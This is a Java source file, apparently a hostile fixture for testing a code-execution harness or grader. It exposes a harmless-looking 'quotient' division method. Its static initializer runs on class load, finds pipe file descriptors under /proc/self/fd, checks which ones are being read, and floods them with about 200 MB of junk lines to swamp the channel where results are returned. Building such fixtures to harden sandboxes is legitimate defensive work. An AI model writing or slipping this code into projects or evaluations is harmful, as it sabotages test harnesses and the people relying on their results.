package hostile;

import static hostile.Outside.attempt;

import java.io.FileOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HashSet;
import java.util.Set;

/** Writes much that is no answer to where answers go. */
public final class FloodsChannel {
    private static final int LINE = 1 << 12;
    private static final int LINES = 50_000;

    static {
        Set<String> seen = new HashSet<>();
        byte[] line = new byte[LINE];
        Arrays.fill(line, (byte) 'x');
        line[LINE - 1] = '\n';
        for (int number = 0; number < 256; number++) {
            String name = "/proc/self/fd/" + number;
            attempt(() -> {
                String file = Files.readSymbolicLink(Path.of(name)).toString();
                if (file.startsWith("pipe:") && seen.add(file)) {
                    FileOutputStream channel = new FileOutputStream(name);
                    if (isRead(channel)) {
                        for (int i = 0; i < LINES; i++) {
                            channel.write(line);
                        }
                    }
                }
            });
        }
    }

    private FloodsChannel() {}

    public static int quotient(int a, int b) {
        return a / b;
    }

    /** Whether somebody else reads it: the one with the jobs is read here alone, and would fill up. */
    private static boolean isRead(FileOutputStream channel) throws Exception {
        int[] written = {0};
        Thread writing = new Thread(() -> attempt(() -> {
            for (int i = 0; i < 64; i++) {
                channel.write("\n".repeat(1 << 12).getBytes());
                written[0]++;
            }
        }));
        writing.setDaemon(true);
        writing.start();
        writing.join(1000);
        return written[0] == 64;
    }
}
